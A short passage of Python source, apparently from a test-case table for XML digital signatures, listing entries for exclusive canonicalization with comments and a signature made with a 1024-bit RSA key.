          _ALG, lambda kit: other_canonicalization(kit, EXC_C14N_WITH_COMMENTS)),
        a("rsa-1024", "rsa-1024", "signed by a 1024-bit RSA key whose certificate is in KeyInfo", _sig(R_SIGNATURE),
          rsa_1024_signature),
    )

